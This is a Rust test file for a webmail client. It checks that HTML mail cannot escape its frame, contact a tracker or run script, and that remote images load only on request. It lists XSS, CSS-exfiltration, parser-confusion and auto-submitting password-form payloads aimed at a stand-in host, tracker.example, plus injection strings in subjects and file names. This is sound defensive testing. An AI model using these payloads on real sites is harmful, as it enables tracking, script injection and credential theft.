//! Mail that tries to break out, to call home, or to lead astray.

use crate::mails::{text, with_files};
use crate::scene::Scene;
use crate::support::must;
use serde_json::json;
use std::io::Read;
use std::net::TcpListener;
use std::sync::{Arc, Mutex, PoisonError};
use std::time::Duration;

/// A server that hopes to be asked. Keeps the first bytes of each connection.
struct Tracker {
    port: u16,
    heard: Arc<Mutex<Vec<Vec<u8>>>>,
}

impl Tracker {
    fn start() -> Self {
        let listener = must(TcpListener::bind("127.0.0.1:0"), "port");
        let port = must(listener.local_addr(), "port").port();
        let heard = Arc::new(Mutex::new(Vec::new()));
        let notes = Arc::clone(&heard);
        std::thread::spawn(move || {
            for mut stream in listener.incoming().flatten() {
                let mut bytes = vec![0; 1024];
                // A connection alone is a word too many.
                let length = stream.read(&mut bytes).unwrap_or_default();
                bytes.truncate(length);
                notes.lock().unwrap_or_else(PoisonError::into_inner).push(bytes);
            }
        });
        Self { port, heard }
    }

    fn heard(&self) -> Vec<Vec<u8>> {
        self.heard.lock().unwrap_or_else(PoisonError::into_inner).clone()
    }

    /// Switches under which the browser takes `tracker.example` for this machine.
    fn switches() -> [String; 1] {
        ["--host-resolver-rules=MAP tracker.example 127.0.0.1, MAP * ~NOTFOUND, EXCLUDE 127.0.0.1".to_owned()]
    }

    /// The mail with `{t}` in all spellings: by name, by address, with and without TLS.
    fn fill(&self, html: &str) -> String {
        let port = self.port;
        let places = [
            format!("http://127.0.0.1:{port}/a"),
            format!("https://127.0.0.1:{port}/b"),
            format!("http://tracker.example:{port}/c"),
            format!("//tracker.example:{port}/d"),
        ];
        places.iter().map(|place| html.replace("{t}", place)).collect()
    }
}

/// Ways out, each by itself.
const WAYS: &[&str] = &[
    "<script>document.title='out';top.location='{t}'</script>",
    "<script src='{t}'></script>",
    "<img src='{t}'><img srcset='{t} 1x'><picture><source srcset='{t}'><img src='{t}'></picture>",
    "<img src=x onerror=\"fetch('{t}')\"><body onload=\"top.location='{t}'\">",
    "<svg onload=\"top.location='{t}'\"><image href='{t}' xlink:href='{t}'/><use href='{t}#x'/><script>top.location='{t}'</script></svg>",
    "<meta http-equiv=refresh content='0;url={t}'><meta http-equiv=Content-Security-Policy content=\"img-src *\">",
    "<base href='{t}'><img src=relative><link rel=stylesheet href='{t}'><link rel=prefetch href='{t}'><link rel=dns-prefetch href='{t}'>",
    "<iframe src='{t}'></iframe><iframe srcdoc=\"<img src='{t}'>\"></iframe><object data='{t}'></object><embed src='{t}'><frame src='{t}'>",
    "<video src='{t}' poster='{t}' autoplay></video><audio src='{t}' autoplay></audio><input type=image src='{t}'>",
    "<style>@import '{t}'; @import url({t}); body{background:url({t})} @font-face{font-family:f;src:url('{t}')} p{font-family:f;\
     content:url({t})} a[href^='h']{background:image-set('{t}' 1x)} \\@import '{t}'; p{background:u\\72l('{t}')}</style>",
    "<p style=\"background-image:url('{t}');list-style:url({t});cursor:url({t}),auto\">x</p><td background='{t}'><body background='{t}'>",
    "<form action='{t}'><input name=password autofocus onfocus=\"this.form.submit()\"><button>Log in</button></form>",
    "</iframe></article></main><h1>Out of the frame</h1><script>top.out=1</script>",
    "<noscript><p title=\"</noscript><img src='{t}'>\"></noscript><math><mtext><table><mglyph><style><!--</style><img src='{t}'>",
    "<xmp><img src='{t}'></xmp><template><img src='{t}'></template><textarea></textarea><img src='{t}'><plaintext><img src='{t}'>",
];

#[test]
fn no_way_out_leads_anywhere() {
    let tracker = Tracker::start();
    let mut mails: Vec<Vec<u8>> =
        WAYS.iter().enumerate().map(|(n, way)| text(n, &format!("Way {n}"), "html", &tracker.fill(way))).collect();
    mails.push(text(WAYS.len(), "All ways", "html", &tracker.fill(&WAYS.concat())));
    let scene = Scene::switched(&mails, &[], &Tracker::switches());
    let tabs = scene.browser.tabs();
    let names = (0..WAYS.len()).map(|n| format!("Way {n}")).chain(["All ways".to_owned()]);
    for name in names {
        let browser = scene.open_conversation(&name);
        let (address, title) = (browser.address(), browser.eval("document.title"));
        // Longer than any of them waits.
        std::thread::sleep(Duration::from_millis(300));
        browser.quiet();
        stays(&scene, &address, &title, tabs);
        scene.is_sound();
        // The mail as a page of its own, where no frame holds it.
        browser.follow("article footer a[href$='/body']");
        let (address, title) = (browser.address(), browser.eval("document.title"));
        std::thread::sleep(Duration::from_millis(300));
        stays(&scene, &address, &title, tabs);
        assert_eq!(browser.complaints(), Vec::<String>::new(), "{name}");
    }
    assert_eq!(tracker.heard(), Vec::<Vec<u8>>::new());
}

/// The page is where it was, nothing else was opened, and nothing but this server was asked.
#[track_caller]
fn stays(scene: &Scene, address: &str, title: &serde_json::Value, tabs: usize) {
    let browser = &scene.browser;
    assert_eq!((browser.address().as_str(), &browser.eval("document.title")), (address, title));
    assert_eq!(browser.eval("typeof out"), "undefined", "{address}");
    assert_eq!(browser.tabs(), tabs, "{address} opened another page");
    let own = |url: &String| url.starts_with(&scene.base) || url.starts_with("data:");
    let strange: Vec<String> = browser.requests().into_iter().filter(|url| !own(url)).collect();
    assert_eq!(strange, Vec::<String>::new(), "{address}");
}

#[test]
fn links_in_mail_open_nothing() {
    let tracker = Tracker::start();
    let link = |target: &str| {
        format!(
            "<a target='{target}' rel=opener ping='{{t}}' href='http://tracker.example:{}/x' style='display:block;height:60px'>go</a>",
            tracker.port
        )
    };
    let targets = ["_self", "_top", "_parent", "_blank", "name"];
    let mails: Vec<Vec<u8>> =
        targets.iter().enumerate().map(|(n, target)| text(n, &format!("To {target}"), "html", &link(target))).collect();
    let scene = Scene::switched(&mails, &[], &Tracker::switches());
    let tabs = scene.browser.tabs();
    for target in targets {
        let browser = scene.open_conversation(&format!("To {target}"));
        let address = browser.address();
        assert_eq!(
            browser.in_frames("document.querySelector('a').title"),
            [format!("http://tracker.example:{}/x", tracker.port)]
        );
        browser.click_within("iframe", &json!([30, 30]));
        std::thread::sleep(Duration::from_millis(400));
        assert_eq!((browser.address(), browser.tabs()), (address, tabs), "{target}");
        // The mail as a page of its own, where no sandbox of a frame holds it.
        browser.follow("article footer a[href$='/body']");
        let address = browser.address();
        browser.click("a");
        std::thread::sleep(Duration::from_millis(400));
        assert_eq!((browser.address(), browser.tabs()), (address, tabs), "{target}, alone");
    }
    assert_eq!(tracker.heard(), Vec::<Vec<u8>>::new());
}

#[test]
fn pictures_from_elsewhere_come_when_they_are_asked_for_and_not_before() {
    let tracker = Tracker::start();
    let html = format!(
        "<p>Offer</p><img alt=banner width=40 height=20 src='http://tracker.example:{}/open?id=1'>",
        tracker.port
    );
    let other = html.replace("id=1", "id=2");
    // What is not fetched when it is asked for is not offered either.
    let ground = format!(
        "<p style='background:url(http://tracker.example:{0}/g)'>x</p><table><td background='http://tracker.example:{0}/g'>y</table>",
        tracker.port
    );
    let scene = Scene::switched(
        &[text(1, "Offer", "html", &html), text(2, "Other", "html", &other), text(3, "Ground", "html", &ground)],
        &[],
        &Tracker::switches(),
    );
    assert_eq!(scene.open_conversation("Ground").count(".remote"), 0);
    let browser = scene.open_conversation("Offer");
    std::thread::sleep(Duration::from_millis(300));
    assert_eq!(tracker.heard(), Vec::<Vec<u8>>::new());
    let said = browser.text(".remote");
    assert!(said.contains("tells those servers that this mail was opened, when, and from where"), "{said}");
    scene.is_sound();
    browser.follow(".remote a");
    crate::support::poll(Duration::from_secs(30), "a call of the tracker", || !tracker.heard().is_empty());
    // Over TLS alone, whatever the mail says: a handshake begins with these bytes.
    for bytes in tracker.heard() {
        assert_eq!(bytes.get(..2), Some(&[0x16, 0x03][..]), "{}", String::from_utf8_lossy(&bytes));
    }
    assert!(browser.text(".remote").contains("Their servers know now"));
    let calls = tracker.heard().len();
    scene.open_conversation("Other");
    std::thread::sleep(Duration::from_millis(300));
    assert_eq!(tracker.heard().len(), calls, "the word was given for one message");
}

#[test]
fn names_subjects_and_files_are_shown_as_written() {
    let subject = "\"><script>document.title=1</script><b>x";
    let name = "x'><img src=x onerror=alert(1)>.svg";
    let svg = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(1)</script></svg>";
    let mail = with_files(1, subject, "<b>rich</b>", &[(name, "image/svg+xml", svg)]);
    let mail = String::from_utf8_lossy(&mail).replace("Ann Archer", "\"<script>alert(2)</script>\"").into_bytes();
    let scene = Scene::mails(&[mail]);
    let browser = scene.open("/");
    scene.is_sound();
    assert_eq!(browser.text(".conversations .subject"), subject);
    browser.follow(".conversations a");
    assert_eq!(browser.text("h1"), subject);
    assert!(browser.text("article header").contains("<script>alert(2)</script>"));
    assert_eq!(browser.text(".files a"), name);
    assert_eq!(browser.count("main script, main b, main img"), 0);
    let (saved, content) = browser.download(".files a");
    assert_eq!((saved.rsplit('.').next(), content.as_slice()), (Some("svg"), &svg[..]));
    scene.is_sound();
    browser.follow("article footer a[href$='/origin']");
    scene.is_sound();
    scene.open("/web/search?q=%22%3E%3Cscript%3Edocument.title%3D1%3C%2Fscript%3E");
    assert_eq!(browser.count(".conversations li"), 1);
    scene.is_sound();
}
